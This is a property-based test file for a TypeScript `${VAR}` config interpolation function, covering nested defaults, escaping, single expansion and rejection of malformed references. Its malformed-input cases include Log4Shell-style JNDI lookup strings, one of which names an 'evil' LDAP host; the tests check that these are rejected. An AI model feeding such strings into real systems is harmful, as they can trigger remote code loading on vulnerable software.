// Properties of `${VAR}` interpolation (src/config/interpolate.ts) over hostile strings, with fast-check.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { interpolate, isSingleReference } from '../../src/config/interpolate.ts';

const NAMES = ['A', 'B', 'HOST', '_x', 'V1'];
const name = fc.constantFrom(...NAMES);
/** Text with every character that means something to the syntax, and some that do not. */
const text = fc.string({ unit: fc.constantFrom('$', '{', '}', ':', '-', 'a', ' ', '\n', 'é', '\u0000', '"'), maxLength: 12 });
const env = fc.dictionary(name, fc.oneof(fc.constant(''), text, fc.constant('${B}'), fc.constant('$${A}')), { maxKeys: 5 });

/** A well-formed template and what it must expand to, built side by side (defaults may nest). */
type Part = { kind: 'lit'; s: string } | { kind: 'ref'; name: string; dflt?: Part[] };
const literal = fc.string({ unit: fc.constantFrom('a', ' ', ':', '-', '}', 'é', '/', '\n'), maxLength: 6 }).map((s): Part => ({ kind: 'lit', s }));
const { parts } = fc.letrec((tie) => ({
  part: fc.oneof({ depthSize: 'small', withCrossShrink: true },
    literal,
    fc.record({ kind: fc.constant('ref' as const), name }),
    fc.record({ kind: fc.constant('ref' as const), name, dflt: tie('parts') })),
  parts: fc.array(tie('part'), { maxLength: 4 }),
})) as { parts: fc.Arbitrary<Part[]> };

function render(ps: Part[], inDefault = false): string {
  // A `}` in a default's literal text would close the default: keep the generated templates well formed.
  return ps.map((p) => p.kind === 'lit' ? (inDefault ? p.s.replaceAll('}', '') : p.s)
    : p.dflt === undefined ? `\${${p.name}}` : `\${${p.name}:-${render(p.dflt, true)}}`).join('');
}
function expected(ps: Part[], e: Record<string, string>, inDefault = false): { value: string } | { missing: string } {
  let out = '';
  let missing: string | undefined;
  for (const p of ps) {
    if (p.kind === 'lit') { out += inDefault ? p.s.replaceAll('}', '') : p.s; continue; }
    const v = e[p.name];
    if (p.dflt === undefined) { if (v === undefined) missing ??= p.name; else out += v; continue; }
    if (v !== undefined && v !== '') { out += v; continue; }
    const d = expected(p.dflt, e, true);
    if ('missing' in d) missing ??= d.missing; else out += d.value;
  }
  return missing !== undefined ? { missing } : { value: out };
}

test('property (300 runs): any string and environment: interpolate never throws and answers exactly one of value / missing / malformed', () => {
  fc.assert(fc.property(text, env, (s, e) => {
    const r = interpolate(s, e);
    assert.equal(Object.keys(r).length, 1);
    if (!s.includes('${')) assert.deepEqual(r, { value: s }, 'a string without ${ is left alone');
  }), { numRuns: 300 });
});

test('property (400 runs): a well-formed template (defaults nested to any depth) expands to the concatenation of its parts', () => {
  fc.assert(fc.property(parts, env, (ps, e) => {
    assert.deepEqual(interpolate(render(ps), e), expected(ps, e));
  }), { numRuns: 400 });
});

test('property (200 runs): a variable\'s value is inserted as it is, never expanded again ("${B}" in A stays "${B}")', () => {
  fc.assert(fc.property(name, text, fc.string({ maxLength: 8 }), (n, v, around) => {
    const safe = around.replaceAll('$', '');
    assert.deepEqual(interpolate(`${safe}\${${n}}${safe}`, { B: 'expanded', [n]: v }), { value: `${safe}${v}${safe}` });
  }), { numRuns: 200 });
});

test('property (200 runs): $${ is a literal ${ whatever follows it', () => {
  fc.assert(fc.property(fc.string({ maxLength: 10 }), (rest) => {
    const clean = rest.replaceAll('$', '');
    assert.deepEqual(interpolate(`$\${${clean}`, {}), { value: `\${${clean}` });
  }), { numRuns: 200 });
});

test('property (300 runs): a ${ that does not open NAME} or NAME:-…} is reported malformed, never kept as text', () => {
  const bad = fc.constantFrom('${', '${}', '${A', '${A-b}', '${1A}', '${ A }', '${A:b}', '${A:-x', '${A:-${B}', '${jndi:ldap://x}');
  // Filler that cannot complete a reference (no letters, `}`, `:` or `$`).
  const filler = fc.string({ unit: fc.constantFrom(' ', '/', '.', '0', 'é', '\n'), maxLength: 6 });
  fc.assert(fc.property(filler, bad, filler, (pre, b, post) => {
    const r = interpolate(pre + b + post, { A: 'a', B: 'b' });
    assert.ok('malformed' in r, `${JSON.stringify(pre + b + post)} → ${JSON.stringify(r)}`);
  }), { numRuns: 300 });
});

test('property (400 runs): isSingleReference holds exactly for a template that is one reference and nothing else', () => {
  fc.assert(fc.property(parts, (ps) => {
    const single = ps.length === 1 && ps[0].kind === 'ref';
    const nonEmpty = ps.filter((p) => p.kind === 'ref' || p.s !== '');
    assert.equal(isSingleReference(render(ps)), single || (nonEmpty.length === 1 && nonEmpty[0].kind === 'ref'), render(ps));
  }), { numRuns: 400 });
});

// Regressions found by the properties above (each failed before the fix).
test('${A:-${B}} takes B when A is unset (was the literal text "${B}"); B missing is reported', () => {
  assert.deepEqual(interpolate('${A:-${B}}', { B: 'b' }), { value: 'b' });
  assert.deepEqual(interpolate('${A:-${B:-x}}/y', {}), { value: 'x/y' });
  assert.deepEqual(interpolate('${A:-${B}}', { A: 'a' }), { value: 'a' }, 'a default that is not used is not required');
  assert.deepEqual(interpolate('${A:-${B}}', {}), { missing: 'B' });
});

test('a malformed reference is reported (was passed through as text): ${A-b}, an unclosed ${A, ${jndi:…}', () => {
  assert.deepEqual(interpolate('x${A-b}', { A: 'a' }), { malformed: '${A-b}' });
  assert.ok('malformed' in interpolate('${REDIS_URL', { REDIS_URL: 'redis://r' }));
  assert.ok('malformed' in interpolate('${jndi:ldap://evil/a}', {}));
});
